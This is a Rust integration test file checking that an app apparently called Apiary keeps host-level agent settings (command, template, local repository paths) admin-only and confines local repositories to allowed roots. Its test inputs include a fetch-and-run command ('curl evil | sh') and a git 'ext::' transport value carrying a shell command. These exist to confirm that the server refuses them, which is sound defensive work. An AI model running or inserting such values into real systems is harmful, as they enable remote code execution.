//! Host-level power stays with admins: a member cannot set the custom command, the box
//! template or a repository on this host; an admin's local repository must be a git
//! repository under an allowed root and never Apiary's data folder.

use apiary_testkit::{bare_repo, TestApp};
use serde_json::{json, Value};

fn refused(status: u16, body: &Value, want: u16, field: &str) {
    assert_eq!(status, want, "{body}");
    assert_eq!(body["error"]["field"], field, "{body}");
    assert!(
        body["error"]["message"].as_str().unwrap().contains(field),
        "{body}"
    );
}

#[tokio::test]
async fn a_member_cannot_set_the_command_the_template_or_a_local_repository() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    let app = TestApp::spawn_inner(|o| o, Some(data.clone())).await;
    let admin = app.admin().await;
    let (status, _) = admin
        .patch(
            "/api/v1/settings",
            json!({ "agent_orchestration_enabled": true }),
        )
        .await;
    assert_eq!(status, 200);
    let (member, _) = app.member("member@example.test").await;
    let (status, p) = member
        .post("/api/v1/projects", json!({ "name": "Mine" }))
        .await;
    assert_eq!(status, 201, "{p}");
    let path = format!("/api/v1/projects/{}", p["id"].as_str().unwrap());
    let repo = bare_repo(dir.path());

    let (status, body) = member
        .patch(
            &path,
            json!({ "agent": { "enabled": true, "command": "curl evil | sh" } }),
        )
        .await;
    refused(status, &body, 403, "agent.command");
    let (status, body) = member
        .patch(&path, json!({ "agent": { "template": "host-root" } }))
        .await;
    refused(status, &body, 403, "agent.template");
    for local in [
        data.display().to_string(),
        repo.display().to_string(),
        format!("file://{}", repo.display()),
        "../data".to_string(),
        "ext::sh -c id".to_string(),
    ] {
        let (status, body) = member
            .patch(&path, json!({ "agent": { "repo_url": local } }))
            .await;
        refused(status, &body, 403, "agent.repo_url");
    }
    // The settings (the forge's API base among them) are admins' only.
    let (status, _) = member
        .patch(
            "/api/v1/settings",
            json!({ "github_api_base": "http://127.0.0.1:1" }),
        )
        .await;
    assert_eq!(status, 403);
    // Nothing of it was stored.
    let (_, now) = member.get(&path).await;
    assert_eq!(now["agent"]["command"], "");
    assert_eq!(now["agent"]["repo_url"], "");

    // A preset and a remote URL are the member's to choose; values sent back unchanged pass.
    let (status, body) = member
        .patch(
            &path,
            json!({ "agent": { "enabled": true, "preset": "claude-code",
            "repo_url": "https://github.com/acme/site.git" } }),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = admin
        .patch(
            &path,
            json!({ "agent": { "command": "sh /opt/agent.sh", "template": "big" } }),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let a = &body["agent"];
    let (status, body) = member
        .patch(
            &path,
            json!({ "agent": { "command": a["command"], "template": a["template"],
            "repo_url": a["repo_url"], "base_branch": "dev" } }),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = member
        .patch(&path, json!({ "agent": { "command": "" } }))
        .await;
    refused(status, &body, 403, "agent.command");
}

#[tokio::test]
async fn an_admins_local_repository_must_be_a_git_repository_under_an_allowed_root() {
    let dir = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(dir.path()).unwrap();
    let data = root.join("data");
    let app = TestApp::spawn_inner(|o| o, Some(data.clone())).await;
    let admin = app.admin().await;
    let allowed = root.join("allowed");
    let elsewhere = root.join("elsewhere");
    for d in [
        &allowed,
        &elsewhere,
        &data.join("repos"),
        &data.join("boxes"),
    ] {
        std::fs::create_dir_all(d).unwrap();
    }
    let (status, body) = admin
        .patch(
            "/api/v1/settings",
            json!({ "local_repo_roots": [allowed.display().to_string()] }),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        body["local_repo_roots"],
        json!([allowed.display().to_string()])
    );
    let (_, p) = admin
        .post("/api/v1/projects", json!({ "name": "Local" }))
        .await;
    let path = format!("/api/v1/projects/{}", p["id"].as_str().unwrap());
    let set = |url: String| {
        let admin = &admin;
        let path = &path;
        async move {
            admin
                .patch(path, json!({ "agent": { "repo_url": url } }))
                .await
        }
    };

    let outside = bare_repo(&elsewhere);
    let (status, body) = set(outside.display().to_string()).await;
    refused(status, &body, 400, "agent.repo_url");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("allowed"),
        "{body}"
    );
    let (status, body) = set(format!("file://{}", outside.display())).await;
    refused(status, &body, 400, "agent.repo_url");
    let (status, body) = set(allowed.join("missing.git").display().to_string()).await;
    refused(status, &body, 400, "agent.repo_url");
    std::fs::create_dir_all(allowed.join("plain")).unwrap();
    let (status, body) = set(allowed.join("plain").display().to_string()).await;
    refused(status, &body, 400, "agent.repo_url");
    let (status, body) = set("relative/repo.git".into()).await;
    refused(status, &body, 400, "agent.repo_url");

    let inside = bare_repo(&allowed);
    let (status, body) = set(inside.display().to_string()).await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = set(format!("file://{}", inside.display())).await;
    assert_eq!(status, 200, "{body}");
    // The data folder's repos/ is allowed by default.
    let kept = bare_repo(&data.join("repos"));
    let (status, body) = set(kept.display().to_string()).await;
    assert_eq!(status, 200, "{body}");

    // Even under a root that holds it, nothing of the data folder but repos/ may be used.
    let (status, body) = admin
        .patch(
            "/api/v1/settings",
            json!({ "local_repo_roots": [root.display().to_string()] }),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let hidden = bare_repo(&data.join("boxes"));
    for bad in [hidden, data.clone(), root.clone()] {
        let (status, body) = set(bad.display().to_string()).await;
        refused(status, &body, 400, "agent.repo_url");
    }
    std::fs::create_dir_all(data.join("objects")).unwrap();
    std::fs::write(data.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    let (status, body) = set(data.display().to_string()).await;
    refused(status, &body, 400, "agent.repo_url");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("data folder"),
        "{body}"
    );

    // A root inside the data folder is refused, and so is a relative one.
    for bad in [
        data.display().to_string(),
        data.join("boxes").display().to_string(),
        "repos".into(),
    ] {
        let (status, body) = admin
            .patch("/api/v1/settings", json!({ "local_repo_roots": [bad] }))
            .await;
        refused(status, &body, 400, "local_repo_roots");
    }
}
